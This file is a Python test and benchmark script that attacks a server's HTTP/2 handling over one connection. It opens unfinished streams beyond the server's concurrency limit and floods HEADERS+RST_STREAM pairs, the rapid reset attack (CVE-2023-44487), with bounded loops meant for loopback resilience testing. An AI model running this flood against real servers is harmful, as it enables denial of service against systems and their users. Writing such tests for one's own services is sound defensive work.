"""Raw HTTP/2 abuse of one connection to ferryd, for tests and bench/.

Run with Debian's /usr/bin/python3 (python3-h2). Modes:

  open HOST:PORT N      opens N streams (HEADERS only, never finished,
                        ignoring the server's SETTINGS_MAX_CONCURRENT_STREAMS
                        as an attacker would), prints
                        `held sent=N refused=R closed=0|1`, then keeps the
                        connection open for up to 60 s (the caller kills
                        it sooner).
  reset HOST:PORT N S   sends N HEADERS+RST_STREAM pairs (HTTP/2 rapid
                        reset, CVE-2023-44487) within at most S seconds,
                        prints `flood sent=N seconds=S closed=0|1`.

Every loop is bounded by N and by time. Only loopback addresses are meant.
"""

import collections
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings

HEADERS = [(':method', 'POST'), (':scheme', 'http'),
           (':path', '/ferry.v1.Jobs/QueueStats'), (':authority', 'ferryd'),
           ('content-type', 'application/grpc'), ('te', 'trailers')]


class Conn:

  def __init__(self, address):
    host, port = address.rsplit(':', 1)
    self.sock = socket.create_connection((host, int(port)), timeout=10)
    self.sock.setblocking(False)
    self.h2 = h2.connection.H2Connection(
        h2.config.H2Configuration(client_side=True, header_encoding='utf-8'))
    self.h2.initiate_connection()
    self.closed = False
    self.refused = 0
    self.flush()

  def unlimited(self):
    # h2 enforces the peer's stream limit on us; an attacker would not.
    settings = self.h2.remote_settings
    settings._settings[h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS] = (
        collections.deque([2**31]))

  def flush(self, deadline=None):
    data = memoryview(self.h2.data_to_send())
    deadline = deadline or time.monotonic() + 10
    while data and not self.closed and time.monotonic() < deadline:
      try:
        data = data[self.sock.send(data):]
      except BlockingIOError:
        self.read()
        time.sleep(0.001)
      except OSError:
        self.closed = True

  def read(self):
    try:
      got = self.sock.recv(1 << 20)
    except BlockingIOError:
      return
    except OSError:
      self.closed = True
      return
    if not got:
      self.closed = True
      return
    try:
      events = self.h2.receive_data(got)
    except h2.exceptions.ProtocolError:
      self.closed = True
      return
    for event in events:
      if isinstance(event, h2.events.StreamReset):
        self.refused += 1
      elif isinstance(event, h2.events.ConnectionTerminated):
        self.closed = True


def open_streams(address, n):
  conn = Conn(address)
  sent = 0
  while sent < n and not conn.closed:
    conn.unlimited()
    try:
      conn.h2.send_headers(conn.h2.get_next_available_stream_id(), HEADERS)
    except h2.exceptions.ProtocolError:
      conn.closed = True
      break
    sent += 1
    if sent % 100 == 0:
      conn.flush()
      conn.read()
  conn.flush()
  # Give the server's answers (RST_STREAM REFUSED_STREAM) up to 2 s.
  end = time.monotonic() + 2
  while time.monotonic() < end and not conn.closed:
    conn.read()
    time.sleep(0.01)
  print(f'held sent={sent} refused={conn.refused} closed={int(conn.closed)}',
        flush=True)
  end = time.monotonic() + 60
  while time.monotonic() < end and not conn.closed:
    conn.read()
    time.sleep(0.1)


def rapid_reset(address, n, seconds):
  conn = Conn(address)
  sent = 0
  start = time.monotonic()
  end = start + seconds
  while sent < n and not conn.closed and time.monotonic() < end:
    for _ in range(100):
      sid = conn.h2.get_next_available_stream_id()
      conn.h2.send_headers(sid, HEADERS)
      conn.h2.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
      sent += 1
    conn.flush(end)
    conn.read()
  took = time.monotonic() - start
  print(f'flood sent={sent} seconds={took:.1f} closed={int(conn.closed)}',
        flush=True)


def main():
  if len(sys.argv) == 4 and sys.argv[1] == 'open':
    open_streams(sys.argv[2], int(sys.argv[3]))
  elif len(sys.argv) == 5 and sys.argv[1] == 'reset':
    rapid_reset(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
  else:
    sys.exit(__doc__)


if __name__ == '__main__':
  main()
